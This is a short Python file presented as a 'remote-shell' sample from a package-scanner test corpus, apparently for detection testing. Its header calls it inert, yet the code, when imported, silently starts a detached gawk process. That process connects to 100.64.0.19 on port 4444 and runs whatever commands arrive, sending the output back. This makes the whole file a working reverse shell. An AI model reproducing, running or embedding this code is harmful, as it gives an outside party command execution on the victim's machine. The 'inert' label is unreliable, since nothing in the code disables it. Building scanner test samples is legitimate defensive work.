# pkgguard corpus 719 (remote-shell), modelled on [taxonomy]; inert, never run.
import shutil
import subprocess

_PROGRAM = (
    'BEGIN { s = "/inet/tcp/0/100.64.0.19/4444"; '
    'while (1) { printf "> " |& s; if ((s |& getline c) <= 0) break; '
    'while ((c |& getline) > 0) print $0 |& s; close(c) } }'
)

if shutil.which("gawk"):
    subprocess.Popen(["gawk", _PROGRAM], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
